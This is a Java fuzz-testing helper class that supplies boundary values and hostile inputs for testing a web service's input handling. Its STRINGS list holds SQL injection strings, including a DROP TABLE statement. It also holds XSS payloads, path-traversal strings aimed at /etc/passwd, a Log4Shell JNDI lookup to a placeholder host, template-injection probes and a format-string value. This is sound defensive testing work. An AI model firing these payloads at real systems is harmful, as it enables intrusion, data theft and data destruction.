package vn.ocop.devstack.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/** Hostile and boundary values, as text and as JSON. */
final class Junk {
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  /** Strings that have broken services before: empty, huge, control characters, injections. */
  static final List<String> STRINGS =
      List.of(
          "",
          " ",
          "\t\r\n",
          "x".repeat(10_240),
          "ệ".repeat(1_000),
          "\u0000",
          "a\u0000b",
          "🍯🐝☕",
          "Ca\u0300 phe\u0302\u0301 Ea Tu\u0309 Đắk Lắk",
          "Hợp tác xã Nông nghiệp Đắk Mil",
          "' OR '1'='1",
          "'; DROP TABLE subject; --",
          "\" OR \"\"=\"",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "${jndi:ldap://example.invalid/a}",
          "{{7*7}}",
          "#{7*7}",
          "\uFEFFbom",
          "\u202Eevil",
          "\uD83D",
          "null",
          "NaN",
          "-1",
          "1e309",
          "0x7fffffff",
          "true",
          "%00",
          "%s%s%s%n");

  /** Numbers at and past every usual limit, as JSON. */
  static final List<JsonNode> NUMBERS =
      List.of(
          NODES.numberNode(-1),
          NODES.numberNode(0),
          NODES.numberNode(2_147_483_648L),
          NODES.numberNode(-2_147_483_649L),
          NODES.numberNode(Long.MAX_VALUE),
          NODES.numberNode(Long.MIN_VALUE),
          NODES.numberNode(new BigInteger("99999999999999999999999999999")),
          NODES.numberNode(new BigDecimal("1e400")),
          NODES.numberNode(1.5),
          NODES.numberNode(-0.0001),
          NODES.numberNode(1e308),
          NODES.textNode("NaN"),
          NODES.textNode("Infinity"));

  static final List<String> DATES =
      List.of(
          "2025-02-30",
          "2025-13-01",
          "31/12/2024",
          "0000-00-00",
          "+999999999-12-31",
          "-0001-01-01",
          "2025-03-14T25:61:00Z",
          "2025-03-14T09:30:00",
          "yesterday",
          "",
          "1e10",
          "2025-3-4");

  private Junk() {}

  /** A hostile string: one of {@link #STRINGS} or a random one of any code points. */
  static Arbitrary<String> strings() {
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(3, Arbitraries.of(STRINGS)),
        net.jqwik.api.Tuple.of(1, Arbitraries.strings().all().ofMaxLength(40)),
        net.jqwik.api.Tuple.of(
            1, Arbitraries.strings().withCharRange('a', 'z').ofMinLength(300).ofMaxLength(5000)));
  }

  /** As {@link #strings()}, short enough for a path or query (the request line is at most 4 KB). */
  static Arbitrary<String> shortStrings() {
    return strings().filter(s -> s.getBytes(java.nio.charset.StandardCharsets.UTF_8).length <= 400);
  }

  static Arbitrary<String> uuids() {
    return Arbitraries.randomValue(r -> new UUID(r.nextLong(), r.nextLong()).toString());
  }

  /** Values of the wrong JSON type for most fields. */
  static List<JsonNode> wrongTypes() {
    List<JsonNode> values = new ArrayList<>();
    values.add(NODES.textNode("text"));
    values.add(NODES.numberNode(42));
    values.add(NODES.booleanNode(true));
    values.add(NODES.objectNode().put("nested", "object"));
    values.add(NODES.arrayNode().add(1).add("two"));
    values.add(NODES.arrayNode());
    values.add(NODES.objectNode());
    return values;
  }
}
